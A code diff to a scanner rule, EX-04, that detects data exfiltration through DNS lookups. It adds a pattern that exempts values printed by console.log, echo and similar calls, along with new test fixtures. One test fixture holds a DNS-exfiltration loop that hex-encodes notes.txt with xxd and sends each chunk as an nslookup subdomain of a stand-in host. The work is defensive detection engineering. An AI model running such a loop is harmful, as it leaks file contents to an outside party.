@@ -28,6 +28,15 @@ import { keysInNames } from './ex-02-published-secrets.ts';
 /** Where a command may begin in a value of settings. */
 const commandStart = /(?:^|["'`;&|(\n]|\\n|\b(?:do|then|sudo|run:))\s{0,8}$/;
 
+/** A message whose quotation is open up to here, without a command of its own in it. */
+const printed = new RegExp(
+  [
+    String.raw`\b(?:console\.\w{3,5}|print(?:f|ln)?|logg?(?:er|ing)?\.\w{3,9}|log|echo|puts|Write-(?:Host|Output)|fmt\.Print\w{0,3}`,
+    String.raw`|println!)\s{0,2}\(?\s{0,3}[bfru]?(["'\x60])(?:(?!\1)(?!\$\(|\x60)[^\n]){0,120}$`,
+  ].join(''),
+  '',
+);
+
 export const dataInDns: PatternRule = {
   id: 'EX-04',
   severity: 'high',
@@ -49,7 +58,8 @@ export const dataInDns: PatternRule = {
           oneOf(
             seq(code('$('), times(1, 120, except('\\n')), code(')')),
             seq('`', times(1, 120, except('`\\n')), '`'),
-            seq('$({)', letters(1, 40), maybe(code('}'))),
+            seq('$', letters(1, 40)),
+            seq('${', letters(1, 40), '}'),
           ),
           maybe(quote),
           '.',
@@ -76,12 +86,19 @@ export const dataInDns: PatternRule = {
         ),
       ],
       // In a value of settings the names are words, unless the command begins there.
+      // What a program prints is no command either.
       weigh: ({ match, region, severity }) =>
-        region.kind === 'config' && !commandStart.test(match.input.slice(0, match.index).slice(-24))
+        printed.test(match.input.slice(0, match.index))
           ? null
-          : severity,
+          : region.kind === 'config' && !commandStart.test(match.input.slice(0, match.index).slice(-24))
+            ? null
+            : severity,
       catches: [inFile('scripts/a.sh', 'for c in $(xxd -p notes.txt); do nslookup "$c.t.invalid"; done')],
-      spares: [inFile('scripts/a.sh', 'nslookup "$HOST.example.com"', 'dig example.com')],
+      spares: [
+        inFile('scripts/a.js', 'console.log(`Host names: ${found.names.join(", ")}`);'),
+        inFile('scripts/a.sh', 'echo "The host $unit.internal.net answers"'),
+        inFile('scripts/a.sh', 'nslookup "$HOST.example.com"', 'dig example.com'),
+      ],
     }),
     row('a variable as part of the name, in a program', {
       within: 'line',
